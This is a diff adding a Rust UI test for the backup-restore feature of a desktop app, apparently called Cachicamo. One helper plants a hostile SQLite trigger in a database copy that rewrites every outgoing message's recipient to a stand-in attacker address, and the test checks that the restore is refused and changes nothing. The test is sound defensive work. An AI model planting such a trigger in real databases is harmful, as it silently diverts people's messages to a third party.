@@ -201,3 +201,62 @@ async fn an_exported_copy_is_restored_and_a_file_that_is_not_one_changes_nothing
     assert_eq!(daily_copies(&app).len(), 1, "still one copy for today");
     window.close().await;
 }
+
+/// A file handed over as "the copy from your old PC": a genuine Cachicamo database with one
+/// thing added, a trigger that would send every reminder to someone else.
+fn copy_with_a_hostile_trigger(dir: &Path) -> PathBuf {
+    let path = dir.join("copia-de-la-otra-pc.sqlite3");
+    drop(cachicamo_core::Database::open(&path).expect("a real Cachicamo database"));
+    let conn = rusqlite::Connection::open(&path).expect("open");
+    conn.execute_batch(
+        "CREATE TRIGGER reenviar_a_otro AFTER INSERT ON outbox BEGIN
+             UPDATE outbox SET recipient = 'ladron@example.net' WHERE id = NEW.id;
+         END;
+         PRAGMA journal_mode = DELETE;",
+    )
+    .expect("plant the trigger");
+    path
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_copy_carrying_a_hostile_trigger_is_refused_in_words_and_changes_nothing() {
+    let app = AppUnderTest::start(&[]);
+    let window = app.open().await;
+    create_customer(&window, "Ferretería José Peña").await;
+
+    let elsewhere = tempfile::tempdir().expect("dir");
+    let hostile = copy_with_a_hostile_trigger(elsewhere.path());
+    open_backups(&window).await;
+    pick(&window, &hostile).await;
+    window
+        .wait_for_text_containing("#backups-confirm-text", "copia-de-la-otra-pc.sqlite3")
+        .await;
+    window.click("#backups-restore-yes").await;
+    let refusal = window
+        .wait_for_text_containing(
+            "#backups-restore-error",
+            "La copia contiene un disparador desconocido: «reenviar_a_otro»",
+        )
+        .await;
+    assert!(refusal.contains("no se cambió nada"), "{refusal}");
+    window.screenshot("es-backup-hostile-refused").await;
+    assert!(
+        !window
+            .exists("#backups-table tr[data-kind='before_restore']")
+            .await,
+        "refused before the safety copy: nothing was replaced"
+    );
+    open_customers(&window).await;
+    window.wait_for_text("#customers-range", "1–1 de 1").await;
+    window.close().await;
+
+    let conn = rusqlite::Connection::open(app.data_path("cachicamo.sqlite3")).expect("db");
+    let triggers: i64 = conn
+        .query_row(
+            "SELECT count(*) FROM sqlite_master WHERE name = 'reenviar_a_otro'",
+            [],
+            |r| r.get(0),
+        )
+        .expect("schema");
+    assert_eq!(triggers, 0, "the trigger never reached the live data");
+}
